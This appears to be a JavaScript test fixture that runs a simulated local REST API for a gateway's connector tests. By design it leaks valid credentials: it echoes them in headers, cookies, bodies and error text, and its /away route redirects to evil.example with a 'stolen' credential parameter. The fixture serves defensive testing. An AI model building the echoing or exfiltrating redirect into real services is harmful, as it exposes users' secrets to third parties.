// rest-sim: a simulated third-party REST API on 127.0.0.1, the upstream of
// the gateway's HTTP-connector tests and benchmark. It checks the credential
// a request carries (introspection: the server knows the one valid value of
// each scheme) and then does its worst with it: echoes it back in headers,
// in the JSON body, in an error text, split across many small body chunks,
// and in a redirect to another origin.
//
//   const api = await startRestSim({ bearer: "tok", apiKey: "k", basic: ["u", "pw"] });
//   // connectors' baseUrl: `${api.url}/api` (bearer), `${api.url}/q` (?key=), `${api.url}/h` (X-Api-Key), `${api.url}/b` (Basic)
//
// With `introspect` (an async function token → { active, sub }: an OAuth 2.0
// authorization server's token introspection, RFC 7662), base path /o takes
// a Bearer token the authorization server says is active; /echo then also
// answers `subject`, whose token it was (the token's `sub`).
//
// Under every base path:
//   GET|POST /echo         200 JSON { method, path, query, authorization, credential, headers, body } (+ subject on /o) + x-echo-credential header
//   GET /drip              200 text: the credential repeated, written 3 bytes per chunk
//   GET /fail              401 text "invalid credential <credential> for ..." (an upstream error echoing it)
//   GET /away              302 to http://evil.example/cb?stolen=<credential>
//   GET /here              302 to <base>/echo?from=here
//   GET /ok                200 {"ok":true} (the benchmark's call)
// A request without the valid credential is a 401 {"error":"no valid credential"}.
// `requests` records every request that reached it (method, url, headers).
import http from "node:http";

export async function startRestSim({ bearer = "", apiKey = "", basic = ["", ""], introspect = undefined, host = "127.0.0.1", port = 0 } = {}) {
  const requests = [];
  const basicValue = `Basic ${Buffer.from(`${basic[0]}:${basic[1]}`).toString("base64")}`;
  /** The credential a request carries under each base path, when it is the valid one. */
  const credentialOf = (base, req, url) => {
    switch (base) {
      case "/api":
        return bearer !== "" && req.headers.authorization === `Bearer ${bearer}` ? bearer : undefined;
      case "/q":
        return apiKey !== "" && url.searchParams.get("key") === apiKey ? apiKey : undefined;
      case "/h":
        return apiKey !== "" && req.headers["x-api-key"] === apiKey ? apiKey : undefined;
      case "/b":
        return basic[1] !== "" && req.headers.authorization === basicValue ? basic[1] : undefined;
      default:
        return undefined;
    }
  };
  /** The credential and its subject of a Bearer token on /o, as the authorization server introspects it. */
  const introspected = async (base, req) => {
    if (base !== "/o" || introspect === undefined) return undefined;
    const token = /^Bearer (.+)$/.exec(req.headers.authorization ?? "")?.[1];
    if (token === undefined) return undefined;
    const info = await introspect(token).catch(() => ({ active: false }));
    return info?.active ? { cred: token, subject: info.sub } : undefined;
  };
  const server = http.createServer((req, res) => {
    const chunks = [];
    req.on("data", (c) => chunks.push(c));
    req.on("end", async () => {
      const rawPath = (req.url ?? "/").split("?")[0];
      const url = new URL(req.url ?? "/", "http://x");
      requests.push({ method: req.method, url: req.url, headers: req.headers });
      const m = /^(\/[a-z]+)(\/.*)?$/.exec(rawPath);
      const base = m?.[1] ?? "";
      const rest = m?.[2] ?? "/";
      const oauth = await introspected(base, req);
      const cred = oauth?.cred ?? credentialOf(base, req, url);
      const json = (status, obj, headers = {}) => {
        const body = JSON.stringify(obj);
        res.writeHead(status, { "content-type": "application/json", "content-length": Buffer.byteLength(body), ...headers });
        res.end(body);
      };
      if (cred === undefined) return json(401, { error: "no valid credential" });
      const echo = { "x-echo-credential": cred, "x-echo-authorization": String(req.headers.authorization ?? ""), "set-cookie": `session=${cred}` };
      switch (rest) {
        case "/echo":
          return json(200, { method: req.method, path: rawPath, query: url.search, authorization: req.headers.authorization ?? null, credential: cred, ...(oauth ? { subject: oauth.subject ?? null } : {}), headers: req.headers, body: Buffer.concat(chunks).toString("utf8") }, echo);
        case "/drip": {
          res.writeHead(200, { "content-type": "text/plain", ...echo });
          const text = Buffer.from(`start ${cred} middle ${cred}${cred} end ${encodeURIComponent(cred)}\n`);
          let at = 0;
          const next = () => {
            if (at >= text.length) return res.end();
            res.write(text.subarray(at, at + 3));
            at += 3;
            setImmediate(next);
          };
          return next();
        }
        case "/fail":
          res.writeHead(401, { "content-type": "text/plain", ...echo });
          return res.end(`invalid credential ${cred} for ${rawPath}`);
        case "/away":
          res.writeHead(302, { location: `http://evil.example/cb?stolen=${encodeURIComponent(cred)}`, ...echo });
          return res.end(`moved to http://evil.example/cb?stolen=${cred}`);
        case "/here":
          res.writeHead(302, { location: `${base}/echo?from=here` });
          return res.end();
        case "/ok":
          return json(200, { ok: true });
        default:
          return json(404, { error: `no route ${rest}`, path: rawPath });
      }
    });
  });
  server.keepAliveTimeout = 30_000;
  await new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, host, resolve);
  });
  const addr = server.address();
  return {
    url: `http://${host}:${addr.port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
